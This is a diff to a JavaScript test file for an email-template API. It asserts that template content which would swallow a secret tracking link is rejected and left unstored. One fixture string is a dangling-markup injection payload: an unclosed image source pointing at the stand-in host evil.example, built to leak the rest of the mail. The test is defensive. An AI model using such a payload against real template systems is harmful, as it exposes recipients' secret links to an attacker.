@@ -168,8 +168,13 @@ describe('a secret link', () => {
     const swallowing = `<p>y</p>{% if client.name %}<img src='https://evil.example/?{% else %}<b title='x'>{% endif %}`
     for (const text of [content, swallowing]) {
       const reply = await server.call('PUT', `template/block/${block.id}`, { body: { content: text } })
-      const stored = (await server.call('GET', `template/block/${block.id}`)).body.data.content
-      if (reply.status === 200) await checkRendered(`${stored}<p><a href="{{ site.trackingUrl }}">Track</a> '</p>`)
+      expect({ status: reply.status, data: reply.body.data }).toEqual({
+        status: 400,
+        data: {
+          content: `With this block, the link in the mail 'Own' is not safe: site.trackingUrl may only be text, or the whole address of a link: <a href="{{ site.trackingUrl }}">`,
+        },
+      })
+      expect((await server.call('GET', `template/block/${block.id}`)).body.data.content).toBe('<p>x</p>')
     }
   })
 })
